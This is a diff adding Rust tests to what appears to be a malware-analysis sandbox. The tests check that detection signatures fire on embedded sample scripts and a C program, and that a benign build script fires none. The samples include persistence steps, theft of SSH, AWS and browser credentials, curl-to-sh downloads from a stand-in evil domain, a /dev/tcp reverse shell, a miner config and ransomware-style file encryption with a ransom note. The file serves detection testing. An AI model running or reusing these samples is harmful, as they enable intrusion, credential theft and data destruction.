@@ -406,6 +406,7 @@ fn fork_bomb_memory_hog_and_sleep_forever_are_contained() {
     );
     let log = r["debug"]["log"].to_string();
     assert!(log.contains("stopped at the timeout"), "{log}");
+    assert_fired(&r, &["resource_exhaustion"]);
 
     let r = report(&s, sleep_id);
     let log = r["debug"]["log"].to_string();
@@ -536,4 +537,265 @@ fn machinery_none_keeps_static_analysis_only() {
     assert_eq!(r["behavior"]["processes"], serde_json::json!([]));
     assert_eq!(r["info"]["machine"]["manager"], "static");
     assert!(r["target"]["file"]["sha256"].is_string());
+}
+
+/// Signature names in a report.
+fn signature_names(r: &Value) -> Vec<String> {
+    r["signatures"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["name"].as_str().unwrap().to_owned())
+        .collect()
+}
+
+fn assert_fired(r: &Value, want: &[&str]) {
+    let names = signature_names(r);
+    let missing: Vec<&&str> = want
+        .iter()
+        .filter(|w| !names.iter().any(|n| n == *w))
+        .collect();
+    assert!(
+        missing.is_empty(),
+        "did not fire: {missing:?}; fired: {names:?}\nsummary: {}\nlog: {}",
+        r["behavior"]["summary"],
+        r["debug"]
+    );
+}
+
+/// Persistence, credential theft, defence evasion and discovery from a shell script.
+/// Tools the sandbox lacks (insmod, iptables) are called by absolute path: the failed
+/// `execve` is then in the trace, while a `PATH` search by the shell is a `stat` that is
+/// not traced.
+const PERSIST_SH: &str = r#"#!/bin/sh
+mkdir -p ~/.config/systemd/user
+printf '[Service]\nExecStart=/tmp/.x/agent\n' > ~/.config/systemd/user/dbus-helper.service
+echo '/tmp/.x/agent &' >> /etc/rc.local 2>/dev/null
+mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1 attacker' >> ~/.ssh/authorized_keys
+mkdir -p /tmp/.x
+cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.mozilla/firefox/*/logins.json > /tmp/.x/loot 2>/dev/null
+echo /tmp/.x/hook.so > /etc/ld.so.preload 2>/dev/null
+/sbin/insmod /tmp/.x/rootkit.ko 2>/dev/null
+echo 0 > /proc/sys/kernel/randomize_va_space 2>/dev/null
+/usr/sbin/iptables -F 2>/dev/null
+useradd -m -s /bin/sh sysadm 2>/dev/null
+rm -f ~/.bash_history
+cat /var/run/docker.sock 2>/dev/null
+cat /sys/class/dmi/id/product_name /proc/scsi/scsi 2>/dev/null
+uname -a > /dev/null; id > /dev/null; whoami > /dev/null; hostname > /dev/null
+cp /usr/bin/true /tmp/.x/agent
+touch -r /usr/bin/ls /tmp/.x/agent
+chmod 4755 /tmp/.x/agent
+/tmp/.x/agent
+exit 0
+"#;
+
+/// Network behaviour: download-and-execute, a reverse shell, a port scan, DGA look-ups,
+/// a mining pool, IRC and Tor. Every address is answered by the task's sink.
+const NETWORK_SH: &str = r#"#!/bin/bash
+curl -s http://update.evil-domain.test/install.sh | sh
+curl -s -o /dev/null http://203.0.113.9/gate.php
+bash -c 'exec 3<>/dev/tcp/10.0.2.9/4444; sh <&3 >&3 2>&3'
+for p in $(seq 1000 1011); do (exec 7<>/dev/tcp/10.0.2.9/$p) 2>/dev/null; done
+for d in qxkzjvbwpt.com zrtplkmnvb.net bcdfghjklm.org xwvtsrqpnm.info kq3x9z7v2w.biz; do
+  getent hosts $d > /dev/null
+done
+(exec 8<>/dev/tcp/pool.minexmr.com/3333) 2>/dev/null
+(exec 6<>/dev/tcp/irc.evil.test/6667 && printf 'NICK bot\r\n' >&6) 2>/dev/null
+(exec 5<>/dev/tcp/10.0.2.9/9050) 2>/dev/null
+exit 0
+"#;
+
+/// Anti-debugging, injection, masquerading, sniffing, fileless execution, a miner
+/// configuration, ransomware-like encryption of documents, self-deletion.
+const EVASION_C: &str = r#"
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <linux/if_ether.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <arpa/inet.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static void put(const char *path, const void *buf, size_t n) {
+    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+    if (fd >= 0) { write(fd, buf, n); close(fd); }
+}
+
+int main(int argc, char **argv) {
+    char path[256], buf[8192];
+    ptrace(PTRACE_TRACEME, 0, 0, 0);
+    prctl(PR_SET_NAME, "kworker/0:2", 0, 0, 0);
+    pid_t victim = fork();
+    if (victim == 0) { sleep(2); _exit(0); }
+    ptrace(PTRACE_ATTACH, victim, 0, 0);
+    snprintf(path, sizeof path, "/proc/%d/mem", victim);
+    int mem = open(path, O_RDWR);
+    if (mem >= 0) close(mem);
+    kill(victim, SIGKILL);
+    waitpid(victim, NULL, 0);
+    socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
+    int m = memfd_create("x", 0);
+    int t = open("/usr/bin/true", O_RDONLY);
+    ssize_t n;
+    while ((n = read(t, buf, sizeof buf)) > 0) write(m, buf, n);
+    close(t);
+    pid_t c = fork();
+    if (c == 0) { char *a[] = {"true", NULL}; fexecve(m, a, (char *[]){NULL}); _exit(1); }
+    waitpid(c, NULL, 0);
+    mkdir("/tmp/.cache-x", 0755);
+    const char *cfg = "{\"autosave\": true, \"donate-level\": 1, \"pools\": [{\"url\": "
+        "\"stratum+tcp://pool.supportxmr.com:443\", \"user\": \"44AFFq5kSiGBoZ\"}], \"xmrig\": 1}\n";
+    put("/tmp/.cache-x/config.json", cfg, strlen(cfg));
+    mkdir("/home/john/Documents", 0755);
+    int rnd = open("/dev/urandom", O_RDONLY);
+    for (int i = 0; i < 10; i++) {
+        snprintf(path, sizeof path, "/home/john/Documents/report%d.txt", i);
+        put(path, "quarterly numbers\n", 18);
+        read(rnd, buf, sizeof buf);
+        char enc[300];
+        snprintf(enc, sizeof enc, "%s.locked", path);
+        put(enc, buf, sizeof buf);
+        unlink(path);
+    }
+    const char *note = "All your files are encrypted. Send 0.1 bitcoin to decrypt them.\n";
+    put("/home/john/Documents/HOW_TO_DECRYPT.txt", note, strlen(note));
+    unlink(argv[0]);
+    return 0;
+}
+"#;
+
+/// Ordinary scripting: nothing here may fire.
+const BENIGN_SH: &str = r#"#!/bin/sh
+echo building > /tmp/build.log
+mkdir -p ~/project && cd ~/project
+printf 'int main(void) { return 0; }\n' > main.c
+ls -la /usr/include > /dev/null
+cat /etc/os-release > /tmp/os.txt
+date >> /tmp/build.log
+uname -r >> /tmp/build.log
+python3 -c 'import json; print(json.dumps({"a": 1}))' > /tmp/out.json
+sort /etc/passwd > /tmp/users.sorted
+mv /tmp/out.json /tmp/result.json
+exit 0
+"#;
+
+#[test]
+fn samples_fire_their_signatures_and_a_benign_one_fires_none() {
+    let uid_base = 250_000;
+    let s = sandbox_server(uid_base);
+    let dir = tempfile::tempdir().unwrap();
+    let evasion = gcc(dir.path(), "evasion", EVASION_C);
+    let persist = submit(&s, "persist.sh", PERSIST_SH.as_bytes(), 30, "");
+    let network = submit(&s, "network.sh", NETWORK_SH.as_bytes(), 30, "");
+    let evade = submit(&s, "evasion", &evasion, 30, "");
+    let benign = submit(&s, "build.sh", BENIGN_SH.as_bytes(), 30, "");
+
+    let r = report(&s, persist);
+    assert_fired(
+        &r,
+        &[
+            "persistence_systemd",
+            "persistence_rc_autostart",
+            "persistence_ssh_authorized_keys",
+            "credential_ssh_keys",
+            "credential_files",
+            "credential_browser_stores",
+            "hidden_files_dropped",
+            "ld_preload_hijack",
+            "kernel_module_load",
+            "sysctl_tampering",
+            "firewall_tampering",
+            "account_manipulation",
+            "clears_history_and_logs",
+            "container_escape_probe",
+            "antivm_checks",
+            "system_discovery",
+            "timestomp",
+            "setuid_file_created",
+            "drops_elf",
+            "executes_dropped_file",
+        ],
+    );
+    let sig = r["signatures"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["name"] == "credential_ssh_keys")
+        .unwrap();
+    assert_eq!(sig["marks"][0]["ioc"], "/home/john/.ssh/id_ed25519");
+    for k in [
+        "description",
+        "severity",
+        "confidence",
+        "weight",
+        "categories",
+        "families",
+        "references",
+        "data",
+        "ttp",
+        "alert",
+    ] {
+        assert!(sig.get(k).is_some(), "{k} missing from {sig}");
+    }
+    assert!(r["malscore"].as_f64().unwrap() >= 7.0, "{}", r["malscore"]);
+    assert_eq!(r["malstatus"], "Malicious");
+
+    let r = report(&s, network);
+    assert_fired(
+        &r,
+        &[
+            "download_and_execute",
+            "http_request",
+            "http_to_ip_address",
+            "reverse_shell",
+            "port_scan",
+            "network_dga",
+            "cryptomining_pool",
+            "network_irc",
+            "network_tor",
+        ],
+    );
+
+    let r = report(&s, evade);
+    assert_fired(
+        &r,
+        &[
+            "antidebug_ptrace",
+            "process_injection",
+            "process_masquerading",
+            "network_sniffing",
+            "fileless_execution",
+            "cryptominer_strings",
+            "xmrig_miner",
+            "ransomware_mass_rename",
+            "dropped_high_entropy_files",
+            "ransomware_note",
+            "deletes_itself",
+        ],
+    );
+    assert_eq!(r["malfamily"], "XMRig", "{}", r["malfamily"]);
+
+    let r = report(&s, benign);
+    assert!(
+        r["behavior"]["processes"].as_array().unwrap().len() >= 5,
+        "{}",
+        r["debug"]
+    );
+    assert_eq!(
+        signature_names(&r),
+        Vec::<String>::new(),
+        "{}",
+        r["behavior"]["summary"]
+    );
+    assert_eq!(r["info"]["score"].as_f64(), Some(0.0));
+    assert_no_leftovers(uid_base);
 }
